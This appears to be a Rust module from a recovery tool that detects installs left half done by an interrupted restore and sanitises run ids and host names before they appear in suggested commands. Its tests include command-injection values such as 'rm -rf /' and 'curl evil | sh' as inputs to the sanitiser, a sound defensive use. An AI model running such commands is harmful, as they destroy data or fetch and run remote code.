//! An install that a run has left half done: it must be neither served, changed nor bundled before that run is over.
//!
//! Until its last step a restore has in place what nothing may take for the install: an empty database, or one that has
//! not been proved. Whoever starts the application on it has data that the run then takes away.

use super::table::{leaves_half_done, resumable};
use crate::cluster::{Cluster, ClusterError, Database, lease_name};
use crate::error::{OpenRun, Result, WayOut};
use crate::journal::{Remains, Run, RunStore, ended};
use crate::names::NamespaceName;
use crate::ops::Ctx;
use crate::ops::lease::command_of;

/// No id of a run is longer.
const LONGEST_ID: usize = 64;

/// The run that has the install half done: an open one of this host or, where only its lease tells of it, of another.
/// Runs that are put back are none: that is done before anything else.
///
/// # Errors
/// The runs or the lease cannot be read; or the cluster does not say whether it is that of the runs.
pub async fn half_done(ctx: &Ctx) -> Result<Option<OpenRun>> {
    let here = open_here(&*ctx.runs, &ctx.install().namespace)?;
    if !here.is_empty() {
        let identity = ctx.cluster().await?.identity().await?;
        if let Some((_, open)) = here.into_iter().rev().find(|(cluster_uid, _)| *cluster_uid == identity) {
            return Ok(Some(open));
        }
    }
    // Without a cluster nothing is changed.
    let Ok(cluster) = ctx.cluster().await else { return Ok(None) };
    if let Some(open) = by_lease(ctx, cluster).await? {
        return Ok(Some(open));
    }
    // Whatever its name: this host's settings may not be those of the bundle.
    Ok(cluster.databases().await?.iter().find_map(left_unproved))
}

/// The run that only the lease on the install tells of. One look does not tell a run that is at work from one that died,
/// and what is advised for the one would destroy what the other is making: so the lease is watched.
async fn by_lease(ctx: &Ctx, cluster: &Cluster) -> Result<Option<OpenRun>> {
    let name = lease_name(&ctx.install().release);
    let Some(held) = cluster.lease_holder(&name).await? else { return Ok(None) };
    let Some(open) = open_by_lease(&*ctx.runs, &ctx.who, &held) else { return Ok(None) };
    let may_live = matches!(open.way_out, WayOut::Elsewhere(_) | WayOut::Lost);
    if !may_live || !cluster.lease_moves(&name, &held, &ctx.events).await? {
        return Ok(Some(open));
    }
    // It may have come to its end meanwhile.
    let Some(held) = cluster.lease_holder(&name).await? else { return Ok(None) };
    Ok(open_by_lease(&*ctx.runs, &ctx.who, &held).map(|open| at_work(open, &held)))
}

fn at_work(open: OpenRun, held: &ClusterError) -> OpenRun {
    match held {
        ClusterError::Held { host, .. } => OpenRun { way_out: WayOut::AtWork(word_of(host)), ..open },
        _ => open,
    }
}

/// The aborted restore since which nothing proves what is in the database.
fn left_unproved(database: &Database) -> Option<OpenRun> {
    let way_out = WayOut::Unproved(database.name.clone());
    Some(OpenRun { run: id_of(database.unproved_by()?), step: None, way_out })
}

/// The databases that a run leaves half done when nothing but its marks is put back. None where its lease is not on the
/// install: then it did not come so far, or the namespace was made anew since.
///
/// # Errors
/// The cluster cannot be asked.
pub(super) async fn leaves_unproved(ctx: &Ctx, remains: &Remains) -> Result<Vec<String>> {
    let cluster = ctx.cluster().await?;
    let held = cluster.lease_holder(&lease_name(&remains.release)).await?;
    let is_held = matches!(held, Some(ClusterError::Held { holder, .. }) if holder == remains.run);
    if !is_held || !leaves_half_done(&remains.verb) {
        return Ok(Vec::new());
    }
    Ok(cluster.databases().await?.into_iter().map(|database| database.name).collect())
}

/// Whoever may write a lease or an annotation writes this text, and it becomes a word of a command: no more of it than an
/// id can have.
fn id_of(text: &str) -> String {
    let word: String = text.chars().filter(|c| c.is_ascii_alphanumeric() || *c == '-').take(LONGEST_ID).collect();
    if word.starts_with(|first: char| first.is_ascii_alphanumeric()) { word } else { "without a name".to_owned() }
}

/// `user@host`, in front of a command: no more of it than such a name can have.
fn word_of(host: &str) -> String {
    host.chars().filter(|c| c.is_ascii_alphanumeric() || "@._-".contains(*c)).take(LONGEST_ID).collect()
}

/// Refuses the install of `ctx` where it is half done.
///
/// # Errors
/// [`Exit::Locked`](crate::error::Exit::Locked), with the run and its ways on; or as [`half_done`].
pub async fn require_whole(ctx: &Ctx) -> Result<()> {
    let install = ctx.install();
    let install = format!("{}/{}", install.namespace, install.release);
    half_done(ctx).await?.map_or(Ok(()), |open| Err(open.half_done(&install)))
}

/// The open runs of this host in a namespace, each with its cluster, oldest first.
fn open_here(runs: &dyn RunStore, namespace: &NamespaceName) -> Result<Vec<(String, OpenRun)>> {
    let mut found = Vec::new();
    for id in runs.ids()? {
        let stored = match runs.read(&id) {
            Ok(stored) if !stored.held => stored,
            // Of one that cannot be read, its lease tells; that it cannot was said before.
            Ok(_) | Err(_) => continue,
        };
        let remains = Remains::of(&stored).filter(|remains| remains.ended.is_none() && remains.namespace == *namespace);
        let Some(remains) = remains.filter(|remains| leaves_half_done(&remains.verb)) else { continue };
        let run = Run::parse(&stored).ok();
        let step = run.as_ref().and_then(|run| run.replay.stopped_in().map(str::to_owned));
        let can_resume = run.is_some_and(|run| resumable(&run.replay).is_ok());
        let open = OpenRun { run: id, step, way_out: if can_resume { WayOut::Resume } else { WayOut::Abort } };
        found.push((remains.at, remains.cluster_uid, open));
    }
    found.sort_by_key(|(at, ..)| *at);
    Ok(found.into_iter().map(|(_, cluster_uid, open)| (cluster_uid, open)).collect())
}

/// The holder of a lease, where it is a run that is resumed and that this host does not know as an open one. Whether it is
/// still at work one look does not tell. A run that comes to its end gives its lease up before.
fn open_by_lease(runs: &dyn RunStore, who: &str, held: &ClusterError) -> Option<OpenRun> {
    let ClusterError::Held { holder, host, .. } = held else { return None };
    if command_of(holder).is_some() || !leaves_half_done(holder.split_once('-')?.0) {
        return None;
    }
    let run = id_of(holder);
    let stored = runs.read(holder).ok().filter(|_| run == *holder);
    let way_out = match stored {
        Some(stored) if ended(&stored).is_some() => WayOut::OnlyClosed,
        // One whose first line is damaged tells nothing of itself: then its lease does.
        Some(stored) if Remains::of(&stored).is_some() => return None,
        _ if **host == *who => WayOut::Lost,
        _ => WayOut::Elsewhere(word_of(host)),
    };
    Some(OpenRun { run, step: None, way_out })
}

#[cfg(test)]
mod tests {
    use jiff::Timestamp;

    use super::*;
    use crate::journal::testing::{MemoryRuns, begun};
    use crate::journal::{Begun, Journal, Outcome, Record};

    const AT: Timestamp = Timestamp::UNIX_EPOCH;

    fn run(runs: &MemoryRuns, id: &str, verb: &str, record: Record) {
        let begun = Begun { verb: verb.into(), ..begun(id) };
        Journal::begin(runs, begun).unwrap().append(record).unwrap();
    }

    fn started() -> Record {
        Record::Started { step: "stage".into(), at: AT }
    }

    #[test]
    fn an_open_restore_of_the_namespace_has_it_half_done_and_nothing_else_has() {
        let runs = MemoryRuns::default();
        let open = |namespace: &str| open_here(&runs, &namespace.into()).unwrap();
        run(&runs, "create-1", "create", started());
        run(&runs, "restore-1", "restore", Record::Ended { outcome: Outcome::Aborted, at: AT });
        let held = Journal::begin(&runs, Begun { verb: "restore".into(), ..begun("restore-2") }).unwrap();
        assert_eq!(open("opschain"), [], "put back first, over, or at work: the lease keeps others off");
        drop(held);
        run(&runs, "restore-3", "restore", started());
        let found = open("opschain");
        assert_eq!((found.len(), open("elsewhere").len()), (2, 0));
        let (cluster_uid, newest) = found.last().unwrap();
        assert_eq!(
            (cluster_uid.as_str(), newest.run.as_str(), newest.step.as_deref()),
            ("u", "restore-3", Some("stage"))
        );
        assert_eq!(newest.way_out, WayOut::Abort, "its plan is none of this program");
        // A line that is not understood makes nothing whole.
        runs.set("restore-3", &(runs.text("restore-3") + "{\n"));
        assert_eq!(open("opschain").len(), 2);
    }

    #[test]
    fn a_database_that_an_aborted_restore_has_left_unproved_says_so_to_every_host() {
        let mut database = Database { name: "opschain-db".into(), ..Database::default() };
        assert_eq!(left_unproved(&database), None);
        for odd in ["", "--close-only"] {
            database.annotations.insert(crate::cluster::UNPROVED_BY.into(), odd.into());
            assert_eq!(left_unproved(&database).unwrap().run, "without a name");
        }
        database.annotations.insert(crate::cluster::UNPROVED_BY.into(), "restore-1; evil".into());
        let open = left_unproved(&database).unwrap();
        assert_eq!((open.run.as_str(), open.way_out), ("restore-1evil", WayOut::Unproved("opschain-db".into())));
    }

    #[test]
    fn one_whose_lease_is_renewed_is_at_work_and_nothing_is_advised_that_would_destroy_what_it_makes() {
        let open = OpenRun { way_out: WayOut::Lost, ..OpenRun::new("restore-1".into(), None) };
        let held = ClusterError::Held {
            lease: "dr-opschain".into(),
            holder: "restore-1".into(),
            host: "op@here".into(),
            since: Some(AT),
            renewed: AT,
            lasts: std::time::Duration::from_secs(60),
        };
        let open = at_work(open, &held);
        let error = open.half_done("ops/opschain");
        assert!(error.message().ends_with("run restore-1 of op@here is at work on it"), "{error}");
        assert!(error.hints().iter().all(|hint| !hint.contains("delete")), "{:?}", error.hints());
        assert_eq!(open.next("ops"), "as op@here, until it has ended: dr run show restore-1");
        assert!(open.ways_on().is_empty());
    }

    #[test]
    fn a_lease_tells_of_a_restore_that_no_journal_tells_of_and_of_no_other_run() {
        let runs = MemoryRuns::default();
        run(&runs, "restore-here", "restore", Record::Ended { outcome: Outcome::Aborted, at: AT });
        let elsewhere = |holder: &str| {
            let (lease, holder, host) = ("dr-opschain".into(), holder.into(), "op@there".into());
            let lasts = std::time::Duration::from_secs(60);
            open_by_lease(
                &runs,
                "op@here",
                &ClusterError::Held { lease, holder, host, since: Some(AT), renewed: AT, lasts },
            )
        };
        for holder in ["create-1", "stop-1", "start-1", "deploy-1"] {
            assert_eq!(elsewhere(holder), None, "{holder}");
        }
        assert!(elsewhere("novel-1").is_some(), "what a verb does that is not known here, nobody can say");
        assert_eq!(elsewhere("restore-here").unwrap().way_out, WayOut::OnlyClosed, "it gave nothing up");
        assert_eq!(elsewhere("restore-1").unwrap().way_out, WayOut::Elsewhere("op@there".into()));
        run(&runs, "restore-damaged", "restore", started());
        runs.set("restore-damaged", "{\"rec\n");
        assert!(elsewhere("restore-damaged").is_some(), "nothing here tells what it was");
        assert_eq!(word_of("op@there; rm -rf /"), "op@thererm-rf");
        let evil = elsewhere("restore-1 --yes; curl evil | sh #").unwrap();
        assert_eq!(evil.run, "restore-1--yescurlevilsh");
    }
}
